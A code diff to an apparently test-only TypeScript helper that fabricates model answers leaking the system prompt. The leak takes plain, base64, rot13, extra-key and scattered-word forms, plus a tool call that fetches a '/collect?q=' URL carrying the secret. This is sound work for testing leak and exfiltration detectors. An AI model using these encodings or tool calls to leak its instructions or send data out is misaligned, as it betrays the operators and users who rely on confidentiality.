@@ -63,7 +63,8 @@ const rot13 = (text: string) =>
 
 /** A good answer in whose texts stands what the model was told. */
 function leaked(system: string, good: unknown, leak: Leak): string {
-  const secret = system.slice(0, 600);
+  // So much that it fits into any field: nothing but what it says gives it away.
+  const secret = system.slice(0, 68);
   const coded: Record<Leak, (text: string) => string> = {
     plain: (text) => text,
     base64: (text) => Buffer.from(text).toString('base64'),
@@ -89,7 +90,7 @@ function leaked(system: string, good: unknown, leak: Leak): string {
   if (leak === 'more-keys') return JSON.stringify({ ...(good as object), debug: told });
   if (leak === 'tool-call')
     return JSON.stringify({ tool: 'fetch', url: `${provider.url()}/collect?q=${encodeURIComponent(told)}` });
-  const words = secret.split(/\s+/);
+  const words = system.slice(0, 600).split(/\s+/);
   let at = 0;
   // Words are given out one a text, everything else as a whole. What is one of a list stays one of it.
   const fixed = new Set([
@@ -102,6 +103,7 @@ function leaked(system: string, good: unknown, leak: Leak): string {
     'explain',
     'medium',
   ]);
+  const names = new Set(['speaker', 'name']);
   const fill = (value: unknown): unknown => {
     if (typeof value === 'string') {
       if (fixed.has(value)) return value;
@@ -109,7 +111,9 @@ function leaked(system: string, good: unknown, leak: Leak): string {
     }
     if (Array.isArray(value)) return value.map(fill);
     if (typeof value === 'object' && value !== null)
-      return Object.fromEntries(Object.entries(value).map(([key, one]) => [key, fill(one)]));
+      return Object.fromEntries(
+        Object.entries(value).map(([key, one]) => [key, names.has(key) ? one : fill(one)]),
+      );
     return value;
   };
   return JSON.stringify(fill(good));
